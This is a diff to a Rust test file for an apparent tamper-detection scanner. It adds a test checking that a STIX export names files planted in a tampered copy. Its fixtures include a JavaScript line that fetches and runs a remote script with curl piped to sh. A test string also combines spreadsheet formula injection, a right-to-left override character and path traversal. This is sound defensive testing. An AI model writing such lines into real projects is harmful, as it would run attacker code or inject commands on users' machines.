@@ -5,7 +5,7 @@ mod common;
 use std::ffi::OsStr;
 use std::path::{Path, PathBuf};
 
-use common::{incident, made_by, run, scratch, tar, text, tgz};
+use common::{incident, made_by, run, scratch, sign_incident, tar, text, tgz};
 use serde_json::{Value, json};
 
 const HOSTILE: &str = "package/=cmd|' /C calc'!A0,\"x\"\n\u{202e}gpj.exe/../%2e#1.pem";
@@ -97,6 +97,66 @@ fn sarif_is_valid_and_says_all_of_it() {
         std::fs::read(&path).unwrap(),
         std::fs::read(&again).unwrap()
     );
+}
+
+#[test]
+fn stix_is_valid_and_names_what_was_put_into_a_copy() {
+    let folder = scratch();
+    let at = |name: &str| folder.path().join(name);
+    let original = incident().join("acme-cli/src");
+    let copies = at("copies");
+    let copy = copies.join("tampered");
+    for (name, (_, digest)) in common::tree(&original) {
+        if digest.is_some() {
+            let to = copy.join(&name);
+            std::fs::create_dir_all(to.parent().unwrap()).unwrap();
+            std::fs::copy(original.join(&name), to).unwrap();
+        }
+    }
+    let program = [b"MZ".as_slice(), &[0; 510]].concat();
+    std::fs::write(copy.join("helper.exe"), &program).unwrap();
+    let script = "require('child_process').exec('curl http://203.0.113.9/x.sh | sh');\n";
+    std::fs::write(copy.join("start.js"), script).unwrap();
+    let (set, case, out) = (sign_incident(folder.path()), at("a.case"), at("out.json"));
+    let scanned = [
+        "scan".as_ref(),
+        copies.as_os_str(),
+        "--signatures".as_ref(),
+        set.as_os_str(),
+        "--case".as_ref(),
+        case.as_os_str(),
+    ];
+    run(scanned.map(OsStr::to_owned)).expect(0);
+    run([
+        OsStr::new("compare"),
+        original.as_os_str(),
+        "--case".as_ref(),
+        case.as_os_str(),
+    ])
+    .expect(0);
+    export(&case, "stix", &out);
+    let bundle: Value = serde_json::from_slice(&std::fs::read(&out).unwrap()).unwrap();
+    let patterns: Vec<&str> = bundle["objects"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|object| object["pattern"].as_str())
+        .collect();
+    for (name, bytes) in [
+        ("helper.exe", program.as_slice()),
+        ("start.js", script.as_bytes()),
+    ] {
+        let digest = common::sha256(bytes);
+        assert!(
+            patterns.iter().any(|pattern| pattern.contains(&digest)),
+            "{name}: {patterns:?}"
+        );
+    }
+    assert!(
+        patterns.contains(&"[ipv4-addr:value = '203.0.113.9']"),
+        "{patterns:?}"
+    );
+    held_against("stix", &out);
 }
 
 #[test]
